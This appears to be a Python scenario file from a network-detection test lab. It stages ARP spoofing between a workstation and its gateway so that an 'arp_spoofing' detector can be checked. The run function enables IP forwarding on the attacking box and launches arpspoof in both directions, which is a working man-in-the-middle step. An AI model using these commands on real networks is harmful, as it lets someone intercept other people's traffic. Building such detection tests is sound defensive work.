"""arpspoof between a workstation and its gateway, with the workstation's traffic passing through."""
import services

TITLE = "ARP spoofing of a workstation and its gateway"
START = "2026-11-24 11:00:00"
STORY = """A workstation browses. A small box begins to answer ARP for the gateway towards it and for it towards the gateway (arpspoof -r),
and forwards what it receives; the workstation browses on, through the box."""
EXPECT = [{"detector": "arp_spoofing", "attacker": "boitier", "victim": "pc-compta"}]
ALLOWED = []


def run(lab):
    services.dns_and_dhcp(lab.gateway, dhcp=False)
    services.outside(lab)
    pc, box = lab.host("pc-compta"), lab.host("boitier")
    box.run("sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0")
    lab.record()

    def browse(times):
        for _ in range(times):
            pc.run("curl", "-s", "-m", "10", "-o", "/dev/null", "http://www.meteo.example/", check=False)
            lab.pause(0.4)

    browse(4)
    lab.skip(120)
    child = box.start("arpspoof", "-i", "eth0", "-t", pc.ip, "-r", lab.gateway.ip)
    lab.pause(1)
    browse(25)
    forwarded = int(box.run("awk", "/^Ip: [0-9]/ {print $7}", "/proc/net/snmp"))
    assert forwarded > 100, f"the victim's traffic does not pass the box: {forwarded} packets"
    lab.stop(child, seconds=15)
